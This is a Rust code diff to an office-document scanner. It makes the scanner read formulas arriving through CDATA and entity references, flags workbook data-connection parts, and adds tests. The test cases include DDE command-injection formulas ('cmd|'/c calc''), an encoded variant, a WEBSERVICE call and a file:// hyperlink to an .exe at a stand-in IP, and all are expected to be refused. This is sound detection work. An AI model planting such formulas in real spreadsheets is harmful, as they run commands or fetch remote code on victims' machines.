@@ -315,12 +315,24 @@ fn read_part(
                     para.push_text(&text)
                 }
             }
+            // the watch reads a field's code or a formula through references and CDATA too
+            // (`&#124;` is the DDE operator as well as `|` is)
             Event::CData(data) => match data.xml10_content() {
-                Ok(text) => para.push_text(&text),
+                Ok(text) => {
+                    if let Some(Err(r)) = watch.as_deref_mut().map(|w| w.text(&text)) {
+                        return Ok(Err(r));
+                    }
+                    para.push_text(&text)
+                }
                 Err(e) => return malformed(e),
             },
             Event::GeneralRef(reference) => match entity(&reference) {
-                Ok(text) => para.push_text(&text),
+                Ok(text) => {
+                    if let Some(Err(r)) = watch.as_deref_mut().map(|w| w.text(&text)) {
+                        return Ok(Err(r));
+                    }
+                    para.push_text(&text)
+                }
                 Err(e) => return malformed(e),
             },
             Event::Eof => {
@@ -432,6 +444,11 @@ pub fn active_part(path: &str) -> Option<&'static str> {
     }
     if path.starts_with("activex/") || path.contains("/activex/") {
         return Some("ActiveX control");
+    }
+    if name == "connections.xml" || path.contains("querytables/") {
+        return Some(
+            "external data connection (a web query, database or file the workbook refreshes from)",
+        );
     }
     if path.starts_with("basic/") {
         return Some("ODF Basic macros");
@@ -651,8 +668,47 @@ mod tests {
     }
 
     fn watched(xml: &str) -> Result<(), Refusal> {
-        let mut watch = Watch::new("content.xml", crate::content::reach::Hyperlinks::Allow);
+        watched_as("content.xml", xml)
+    }
+
+    fn watched_as(path: &str, xml: &str) -> Result<(), Refusal> {
+        let mut watch = Watch::new(path, crate::content::reach::Hyperlinks::Allow);
         xml_text_watched(&mut xml.as_bytes(), &mut |_| Ok(()), &mut watch).unwrap()
+    }
+
+    #[test]
+    fn formulas_are_read_through_references_and_cdata_and_data_connections_refused() {
+        let sheet = |cell: &str| {
+            format!(
+                r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1">{cell}<v>0</v></c></row></sheetData></worksheet>"#
+            )
+        };
+        for cell in [
+            "<f>cmd|'/c calc'!A1</f>",
+            "<f>cmd&#124;'/c calc'!A1</f>",
+            r#"<f><![CDATA[WEBSERVICE("http://198.51.100.1/x")]]></f>"#,
+            "<f>HYPERLINK(&quot;file://198.51.100.1/x.exe&quot;)</f>",
+        ] {
+            let r = watched_as("xl/worksheets/sheet1.xml", &sheet(cell)).unwrap_err();
+            assert_eq!(r.reason, Reason::ActiveContent, "{cell}: {r}");
+        }
+        // a fraction of a Word equation is no formula: |x| is an absolute value there
+        let equation = r#"<w:p><m:oMath><m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f></m:oMath></w:p>"#;
+        assert_eq!(watched_as("word/document.xml", equation), Ok(()));
+        for cell in [
+            "<f>SUM(B1:B9)&amp;\"元\"</f>",
+            "<f>HYPERLINK(&quot;https://www.court.gov.cn/&quot;,&quot;法院&quot;)</f>",
+            r#"<f t="shared" ref="A1:A9" si="0"/>"#,
+        ] {
+            assert_eq!(
+                watched_as("xl/worksheets/sheet1.xml", &sheet(cell)),
+                Ok(()),
+                "{cell}"
+            );
+        }
+        for part in ["xl/connections.xml", "xl/queryTables/queryTable1.xml"] {
+            assert!(active_part(part).is_some_and(|w| w.contains("data connection")));
+        }
     }
 
     #[test]
